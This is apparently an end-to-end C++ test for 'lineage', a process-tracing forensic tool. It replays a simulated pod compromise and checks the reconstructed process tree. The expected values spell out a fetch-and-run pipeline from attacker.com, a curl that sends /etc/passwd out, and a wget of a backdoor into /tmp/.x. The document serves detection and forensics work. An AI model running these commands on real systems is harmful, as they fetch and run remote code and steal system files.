// The built-in demo (scripts/demo.sh) as an end-to-end test: the incident is
// replayed in a fake pod for real, then what both journals say about the pod
// is checked node by node through `lineage reconstruct --format json`, and
// the node is checked for anything the demo left behind.
#include <catch2/catch.hpp>

#include <sqlite3.h>
#include <unistd.h>

#include <algorithm>
#include <chrono>
#include <filesystem>
#include <set>
#include <string>
#include <vector>

#include <nlohmann/json.hpp>

#include "cgroupfs.h"
#include "helpers.h"

using namespace e2e;

namespace {

namespace fs = std::filesystem;
using nlohmann::json;
using Args = std::vector<std::string>;

// The fake pod, as scripts/demo.sh builds it.
constexpr const char* kPodName = "my-app-6d4f9-xk2p1";
constexpr const char* kPodNamespace = "production";
constexpr const char* kPodUid = "4c6a1b2e-8d3f-4e5a-9b7c-1d2e3f4a5b6c";
constexpr const char* kPodUidUnderscores = "4c6a1b2e_8d3f_4e5a_9b7c_1d2e3f4a5b6c";
constexpr const char* kContainerId = "d78c990c760b4fc9fa8befc75383ddf9810045e03ecd9eed7a28641dd1a97097";
constexpr const char* kCgroupPrefix = "/kubepods.slice/";

std::string demo_script() {
    return std::string(LINEAGE_SOURCE_DIR) + "/scripts/demo.sh";
}

// `workdir` must be empty: the demo accepts an empty --workdir. run_argv
// waits until stdout and stderr are closed, so a background process of the
// demo that outlives it shows up as a time-out.
RunResult run_demo(const std::string& workdir, bool keep, const std::string& lineage = LINEAGE_BIN) {
    Args argv = {"/bin/bash", demo_script(), "--lineage", lineage, "--workdir", workdir};
    if (keep) argv.push_back("--keep");
    return run_argv(argv, {}, std::chrono::seconds(120));
}

json reconstruct_json(const std::string& journal) {
    RunResult r = run_argv({LINEAGE_BIN, "reconstruct", "--journal", journal, "--pod", kPodName, "--format", "json"},
                           {}, std::chrono::seconds(60));
    INFO("lineage reconstruct --journal " << journal << "\nstderr:\n" << r.err);
    REQUIRE(!r.timed_out);
    REQUIRE(r.exit_code == 0);
    json doc;
    REQUIRE_NOTHROW(doc = json::parse(r.out));
    return doc;
}

std::string basename_of(const std::string& path) {
    auto slash = path.rfind('/');
    return slash == std::string::npos ? path : path.substr(slash + 1);
}

// ---------------------------------------------------------------- the tree

struct Expected {
    Args args;
    std::string binary_base;  // base name of the exec'd path
    bool connects = false;    // one established TCP connection to attacker.com
};

void check_pod(const json& node) {
    REQUIRE(node["pod"].is_object());
    CHECK(node["pod"]["name"] == kPodName);
    CHECK(node["pod"]["namespace"] == kPodNamespace);
    CHECK(node["pod"]["uid"] == kPodUid);
    CHECK(node["pod"]["container_id"] == kContainerId);
}

// What every process of the pod has in common, and what `want` says of it.
void check_node(const json& node, const json& parent, const Expected& want, int port) {
    INFO("process " << node["args"].dump() << " (pid " << node["pid"] << ")");
    CHECK(node["args"] == json(want.args));
    REQUIRE(node["binary"].is_string());
    CHECK(basename_of(node["binary"].get<std::string>()) == want.binary_base);
    CHECK(node["comm"] == want.binary_base.substr(0, 15));
    // It was forked inside the pod and exec'd once there.
    REQUIRE(node["execs"].size() == 1);
    CHECK(node["execs"][0]["args"] == json(want.args));
    CHECK(node["execs"][0]["from_snapshot"] == false);
    CHECK(node["parent_source"] == "fork");
    CHECK(node["parent_key"] == parent["key"]);
    CHECK(node["ppid"] == parent["pid"]);
    CHECK(node["start_time"].get<std::string>() >= parent["start_time"].get<std::string>());
    check_pod(node);
    CHECK(node["matched"] == true);
    CHECK(node["in_window"] == true);
    // A PID of the pod's own PID namespace: small, and not the host's.
    CHECK(node["nspid"].get<int64_t>() > 1);
    CHECK(node["nspid"].get<int64_t>() < 100);
    CHECK(node["nspid"] != node["pid"]);
    REQUIRE(node["exit"].is_object());
    CHECK(node["exit"]["code"] == 0);
    CHECK(node["exit"]["signal"] == 0);
    if (want.connects) {
        REQUIRE(node["connects"].size() == 1);
        const json& c = node["connects"][0];
        CHECK(c["protocol"] == "tcp");
        CHECK(c["family"] == "ipv4");
        CHECK(c["saddr"] == "127.0.0.1");
        CHECK(c["sport"].get<int>() > 0);
        CHECK(c["daddr"] == "127.0.0.1");
        CHECK(c["dport"] == port);
        CHECK(c["result"] == "established");
    } else {
        CHECK(node["connects"].empty());
    }
}

// Children in start-time order, as reconstruct gives them.
void check_start_order(const json& children) {
    for (size_t i = 1; i < children.size(); ++i) {
        INFO("child " << i << ": " << children[i]["args"].dump());
        CHECK(children[i - 1]["start_time"].get<std::string>() <= children[i]["start_time"].get<std::string>());
    }
}

// (pid, nspid, args, connections) of every node, depth first: what must be
// the same in both journals.
void flatten(const json& node, std::vector<std::string>& out) {
    out.push_back(node["pid"].dump() + " " + node["nspid"].dump() + " " + node["args"].dump() + " " +
                  std::to_string(node["connects"].size()) + " children " + std::to_string(node["children"].size()));
    for (const auto& c : node["children"]) flatten(c, out);
}

void collect_pids(const json& node, std::set<int64_t>& out) {
    out.insert(node["pid"].get<int64_t>());
    for (const auto& c : node["children"]) collect_pids(c, out);
}

// The whole incident: my-app -> sh -c "curl .../payload.sh | sh" -> curl and
// the payload's sh -> cat, curl (exfil), wget, chmod.
void check_incident(const json& doc, int port, bool kube_only) {
    const std::string attacker = port == 80 ? "http://attacker.com" : "http://attacker.com:" + std::to_string(port);
    INFO((kube_only ? "kube-only.db" : "journal.db") << ":\n" << doc.dump(2));

    CHECK(doc["matched"] == 8);  // every process of the pod, and nothing else
    for (const auto& w : doc["warnings"]) CHECK(w["kind"] != "loss");
    if (kube_only) {
        // my-app's parent, unshare, was outside the pod: not recorded.
        REQUIRE(doc["warnings"].size() == 1);
        CHECK(doc["warnings"][0]["kind"] == "unknown_parent");
    } else {
        CHECK(doc["warnings"].empty());
    }
    REQUIRE(doc["trees"].size() == 1);

    // my-app, PID 1 of the pod, killed by the restart.
    const json& app = doc["trees"][0];
    const Args app_args = {"my-app", "/usr/local/lib/my-app/app.sh"};
    CHECK(app["args"] == json(app_args));
    CHECK(app["binary"] == "/usr/local/bin/my-app");
    CHECK(app["comm"] == "my-app");
    CHECK(app["nspid"] == 1);
    CHECK(app["nspid"] != app["pid"]);
    check_pod(app);
    CHECK(app["matched"] == true);
    REQUIRE(app["exit"].is_object());
    CHECK(app["exit"]["signal"] == 9);
    CHECK(app["connects"].empty());
    REQUIRE(!app["execs"].empty());
    CHECK(app["execs"].back()["args"] == json(app_args));
    // Its parent is the unshare that made the pod's namespaces, outside it.
    REQUIRE(app["outside_parent"].is_object());
    CHECK(app["outside_parent"]["comm"] == "unshare");
    CHECK(app["outside_parent"]["pid"] == app["ppid"]);
    if (kube_only) {
        // Only the exec inside the container cgroup was recorded.
        CHECK(app["execs"].size() == 1);
        CHECK(app["parent_source"] == "exec");
        CHECK(app["outside_parent"]["why"] == "not in the journal");
    } else {
        // First the demo's stand-in for runc init, outside the container
        // cgroup, then my-app inside it.
        REQUIRE(app["execs"].size() == 2);
        CHECK(app["execs"][0]["args"] == json(Args{"sh", "pod-init.sh"}));
        CHECK(app["parent_source"] == "fork");
        CHECK(app["outside_parent"]["why"] == "outside the pod");
    }

    // The injected command.
    REQUIRE(app["children"].size() == 1);
    const json& injected = app["children"][0];
    check_node(injected, app, {{"sh", "-c", "curl " + attacker + "/payload.sh | sh"}, "sh"}, port);

    // Its pipeline: curl fetching the payload, sh running it.
    REQUIRE(injected["children"].size() == 2);
    check_start_order(injected["children"]);
    const json& fetch = injected["children"][0];
    const json& reader = injected["children"][1];
    check_node(fetch, injected, {{"curl", attacker + "/payload.sh"}, "curl", true}, port);
    CHECK(fetch["children"].empty());
    check_node(reader, injected, {{"sh"}, "sh"}, port);

    // The payload, line by line.
    const std::vector<Expected> payload = {
        {{"cat", "/etc/passwd"}, "cat"},
        {{"curl", attacker + "/exfil", "-d", "@/etc/passwd"}, "curl", true},
        {{"wget", "-O", "/tmp/.x", attacker + "/backdoor"}, "wget", true},
        {{"chmod", "+x", "/tmp/.x"}, "chmod"},
    };
    REQUIRE(reader["children"].size() == payload.size());
    check_start_order(reader["children"]);
    for (size_t i = 0; i < payload.size(); ++i) {
        check_node(reader["children"][i], reader, payload[i], port);
        CHECK(reader["children"][i]["children"].empty());
    }
}

// ---------------------------------------------------------------- SQL

// Every row of `sql`, each column as its bytes ("" for NULL).
std::vector<std::vector<std::string>> rows(Journal& j, const std::string& sql) {
    std::vector<std::vector<std::string>> out;
    j.each(sql, {}, [&](lineage::Stmt& s) {
        std::vector<std::string> row;
        for (int i = 0; i < sqlite3_column_count(s.get()); ++i) row.push_back(s.blob(i));
        out.push_back(std::move(row));
    });
    return out;
}

std::set<int64_t> ints(Journal& j, const std::string& sql) {
    std::set<int64_t> out;
    for (const auto& r : rows(j, sql)) out.insert(std::stoll(r.at(0)));
    return out;
}

// ---------------------------------------------------------------- leftovers

std::string cgroup2_mount() {
    std::string mount = lineage::find_cgroup2_mount();
    REQUIRE(!mount.empty());
    return mount;
}

// Cgroups of the demo still under the cgroup2 mount.
std::vector<std::string> leftover_cgroups() {
    std::vector<std::string> out;
    std::error_code ec;
    fs::recursive_directory_iterator it(cgroup2_mount(), fs::directory_options::skip_permission_denied, ec);
    for (; !ec && it != fs::recursive_directory_iterator(); it.increment(ec)) {
        std::error_code type_ec;
        if (!it->is_directory(type_ec)) continue;
        std::string name = it->path().filename().string();
        if (name.find("kubepods") != std::string::npos || name.find(kPodUidUnderscores) != std::string::npos ||
            name.find(kContainerId) != std::string::npos) {
            out.push_back(it->path().string());
        }
    }
    return out;
}

// Processes (other than this one) whose command line mentions `needle`, or
// that are called my-app.
std::vector<std::string> leftover_processes(const std::string& needle) {
    std::vector<std::string> out;
    std::error_code ec;
    for (fs::directory_iterator it("/proc", ec); !ec && it != fs::directory_iterator(); it.increment(ec)) {
        std::string pid = it->path().filename().string();
        if (pid.find_first_not_of("0123456789") != std::string::npos || pid == std::to_string(getpid())) continue;
        std::string cmdline = read_file("/proc/" + pid + "/cmdline");
        std::string comm = read_file("/proc/" + pid + "/comm");
        std::replace(cmdline.begin(), cmdline.end(), '\0', ' ');
        if (cmdline.find(needle) != std::string::npos || comm == "my-app\n") {
            out.push_back(pid + " " + comm.substr(0, comm.size() ? comm.size() - 1 : 0) + ": " + cmdline);
        }
    }
    return out;
}

void check_nothing_left(const std::string& workdir) {
    CHECK(leftover_cgroups().empty());
    INFO("processes of the demo still running:\n"
         << [&] {
                std::string s;
                for (const auto& p : leftover_processes(workdir)) s += "  " + p + "\n";
                return s;
            }());
    CHECK(leftover_processes(workdir).empty());
}

std::string describe(const RunResult& r) {
    return "exit " + std::to_string(r.exit_code) + (r.timed_out ? " (timed out)" : "") + "\nstdout:\n" + r.out +
           "\nstderr:\n" + r.err;
}

}  // namespace

TEST_CASE("demo: the incident replayed in a fake pod") {
    REQUIRE(leftover_cgroups().empty());  // nothing of an earlier run in the way
    // The pod's files and mounts must stay inside its mount namespace.
    const std::string hosts_before = read_file("/etc/hosts");
    const bool had_backdoor = fs::exists("/tmp/.x");
    const TempDir dir;
    const std::string& workdir = dir.path();

    const auto started = Clock::now();
    RunResult demo = run_demo(workdir, /*keep=*/true);
    const auto took = std::chrono::duration_cast<std::chrono::milliseconds>(Clock::now() - started);
    INFO("scripts/demo.sh took " << took.count() << " ms: " << describe(demo));
    REQUIRE(!demo.timed_out);
    REQUIRE(demo.exit_code == 0);
    CHECK(took < std::chrono::seconds(30));
    // The user sees the tree.
    CHECK(demo.out.find("pod production/my-app-6d4f9-xk2p1") != std::string::npos);
    CHECK(demo.out.find("chmod +x /tmp/.x") != std::string::npos);

    // Gone, although the work directory was kept.
    check_nothing_left(workdir);
    CHECK(read_file("/etc/hosts") == hosts_before);
    if (!had_backdoor) CHECK(!fs::exists("/tmp/.x"));
    const std::string mounts = read_file("/proc/self/mountinfo");
    CHECK(mounts.find(workdir) == std::string::npos);
    CHECK(mounts.find("pod-tmp") == std::string::npos);

    const int port = std::stoi(read_file(workdir + "/attacker.port"));
    const json full = reconstruct_json(workdir + "/journal.db");
    const json kube = reconstruct_json(workdir + "/kube-only.db");

    // One run of the demo for all of the checks below (a SECTION would rerun it).
    {
        INFO("the whole node's journal has the pod's complete tree");
        check_incident(full, port, /*kube_only=*/false);
        // The demo left the same document for the user.
        json kept;
        REQUIRE_NOTHROW(kept = json::parse(read_file(workdir + "/incident.json")));
        CHECK(kept == full);
    }

    {
        INFO("the --kube-only journal has the same tree");
        check_incident(kube, port, /*kube_only=*/true);
        std::vector<std::string> a, b;
        for (const auto& t : full["trees"]) flatten(t, a);
        for (const auto& t : kube["trees"]) flatten(t, b);
        CHECK(a == b);
    }

    {
        INFO("the --kube-only journal holds no process outside the pod");
        std::set<int64_t> pod_pids;
        for (const auto& t : kube["trees"]) collect_pids(t, pod_pids);
        REQUIRE(pod_pids.size() == 8);

        Journal db(workdir + "/kube-only.db");
        Journal whole(workdir + "/journal.db");
        // Every exec happened inside the pod's cgroups.
        auto execs = rows(db, "SELECT tgid, cgroup_path FROM exec");
        CHECK(execs.size() == 8);
        for (const auto& row : execs) {
            INFO("exec row of pid " << row.at(0));
            CHECK(row.at(1).rfind(std::string(kCgroupPrefix) + "kubepods-burstable.slice/kubepods-burstable-pod" +
                                      kPodUidUnderscores + ".slice/cri-containerd-" + kContainerId + ".scope",
                                  0) == 0);
        }
        // Every process in an event row is one of the pod's.
        for (const char* sql : {"SELECT tgid FROM exec", "SELECT child_tgid FROM fork", "SELECT parent_tgid FROM fork",
                                "SELECT tgid FROM exit", "SELECT tgid FROM connect"}) {
            INFO(sql);
            for (int64_t pid : ints(db, sql)) {
                INFO("pid " << pid);
                CHECK(pod_pids.count(pid) == 1);
            }
        }
        // Host noise the whole-node recorder saw is absent: this test, the
        // attacker.com listener and the recorders themselves.
        std::set<int64_t> host = {getpid(), std::stoll(read_file(workdir + "/attacker.pid"))};
        for (int64_t pid : ints(db, "SELECT recorder_pid FROM runs")) host.insert(pid);
        for (int64_t pid : ints(whole, "SELECT recorder_pid FROM runs")) host.insert(pid);
        for (int64_t pid : host) {
            INFO("host pid " << pid);
            for (const char* sql :
                 {"SELECT count(*) FROM exec WHERE tgid = ?1 OR parent_tgid = ?1",
                  "SELECT count(*) FROM fork WHERE parent_tgid = ?1 OR child_tgid = ?1",
                  "SELECT count(*) FROM exit WHERE tgid = ?1", "SELECT count(*) FROM connect WHERE tgid = ?1",
                  "SELECT count(*) FROM snapshot WHERE tgid = ?1 OR ppid = ?1"}) {
                std::string q = sql;
                for (size_t at; (at = q.find("?1")) != std::string::npos;) q.replace(at, 2, std::to_string(pid));
                CHECK(rows(db, q).at(0).at(0) == "0");
            }
        }
        // The whole-node journal did see the host side, e.g. the unshare
        // that started the pod: the filter is what keeps it out.
        CHECK(
            !rows(whole, "SELECT tgid FROM exec WHERE CAST(cgroup_path AS TEXT) NOT LIKE '/kubepods.slice/%'").empty());
        // The /proc snapshot taken at start keeps only processes in the
        // recorded subtree too (the pod started later: there are none).
        for (const auto& row : rows(db, "SELECT tgid, cgroup_path FROM snapshot")) {
            INFO("snapshot row of pid " << row.at(0));
            CHECK(row.at(1).rfind(kCgroupPrefix, 0) == 0);
        }
    }
}

TEST_CASE("demo: nothing is left behind, also when the demo fails halfway") {
    REQUIRE(leftover_cgroups().empty());

    SECTION("a successful run without --keep removes its work directory") {
        const TempDir dir;  // the demo removes it
        const std::string& workdir = dir.path();
        RunResult demo = run_demo(workdir, /*keep=*/false);
        INFO(describe(demo));
        REQUIRE(!demo.timed_out);
        CHECK(demo.exit_code == 0);
        CHECK(!fs::exists(workdir));
        check_nothing_left(workdir);
    }

    SECTION("a run whose recorder fails cleans up the pod's cgroups and the listener") {
        // /bin/false as lineage: the recorders die at once, after the
        // cgroups, the kubelet files and attacker.com are set up.
        const TempDir dir;  // the demo removes it
        const std::string& workdir = dir.path();
        RunResult demo = run_demo(workdir, /*keep=*/false, "/bin/false");
        INFO(describe(demo));
        REQUIRE(!demo.timed_out);
        CHECK(demo.exit_code == 1);
        CHECK(demo.err.find("lineage record exited before it was ready") != std::string::npos);
        CHECK(!fs::exists(workdir));
        check_nothing_left(workdir);
    }
}
